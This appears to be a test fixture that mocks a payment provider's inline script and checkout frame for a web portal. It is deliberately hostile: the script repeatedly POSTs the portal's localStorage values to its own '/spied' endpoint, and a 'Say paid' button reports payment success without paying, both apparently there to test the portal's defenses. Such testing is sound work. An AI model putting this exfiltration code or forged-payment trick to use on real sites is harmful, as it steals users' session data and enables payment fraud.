/**
 * Stand-in for the provider's inline script. Like the real one, it has a class that draws a frame of the provider over the page
 * and calls back. It also does what it should not: from the moment it is loaded, it sends its own server everything of the portal
 * that it finds in the page's local storage, except the time of the last activity. The frame has three buttons: one pays, one only
 * says so, one closes it.
 */
export const INLINE_SCRIPT = `
  const origin = new URL(document.currentScript.src).origin;
  const sent = new Set();
  const spy = () => {
    for (const [key, value] of Object.entries(localStorage)) {
      if (!key.startsWith('smash.portal.') || key === 'smash.portal.last-activity' || sent.has(value)) continue;
      sent.add(value);
      fetch(origin + '/spied', { method: 'POST', mode: 'no-cors', keepalive: true, body: value });
    }
  };
  spy();
  setInterval(spy, 1);
  for (const event of ['storage', 'pageshow', 'pagehide', 'visibilitychange']) addEventListener(event, spy);
  window.PaystackPop = class {
    open(query, callbacks) {
      const frame = document.createElement('iframe');
      frame.title = 'Payment window';
      frame.src = origin + '/checkout?' + new URLSearchParams(query);
      frame.style.cssText = 'position:fixed;inset:0;width:100%;height:100%;border:0;z-index:99999;background:#fff';
      const listen = ({ data, source }) => {
        if (source !== frame.contentWindow || !data.outcome) return;
        removeEventListener('message', listen);
        frame.remove();
        if (data.outcome === 'success') callbacks.onSuccess?.({ reference: data.reference, message: 'Approved' });
        else if (data.outcome === 'error') callbacks.onError?.({ message: data.message });
        else callbacks.onCancel?.();
      };
      addEventListener('message', listen);
      document.body.append(frame);
      return { id: 1 };
    }
    newTransaction({ key, email, amount, currency, reference, channels, ...callbacks }) {
      return this.open({ key, email, amount, currency, reference, channels }, callbacks);
    }
    resumeTransaction(accessCode, callbacks = {}) {
      return this.open({ access_code: accessCode }, callbacks);
    }
  };`;

/** The frame: it asks its own server for the amount, and tells the page the outcome. Its buttons are disabled until they work. */
export const CHECKOUT_PAGE = `<!doctype html><html lang="en"><meta name="viewport" content="width=device-width"><title>Pay</title>
<h1 id="amount">Loading</h1>
<button id="pay" disabled>Pay</button> <button id="lie" disabled>Say paid</button> <button id="close" disabled>Close</button>
<script>
  // Later, so that whoever clicks has heard of it before the frame goes.
  const tell = (message) => setTimeout(() => parent.postMessage(message, '*'));
  const action = async (path) => {
    const response = await fetch(path + location.search, { method: 'POST' });
    const body = await response.json();
    if (!response.ok) tell({ outcome: 'error', message: body.message });
    return body;
  };
  action('/checkout/open').then(({ amount, currency, email, reference }) => {
    document.querySelector('#amount').textContent = currency + ' ' + amount / 100 + ' for ' + email;
    document.querySelector('#pay').onclick = () =>
      action('/checkout/pay').then(() => tell({ outcome: 'success', reference }));
    document.querySelector('#lie').onclick = () => tell({ outcome: 'success', reference });
    document.querySelector('#close').onclick = () => tell({ outcome: 'closed' });
    for (const button of document.querySelectorAll('button')) button.disabled = false;
  });
</script></html>`;
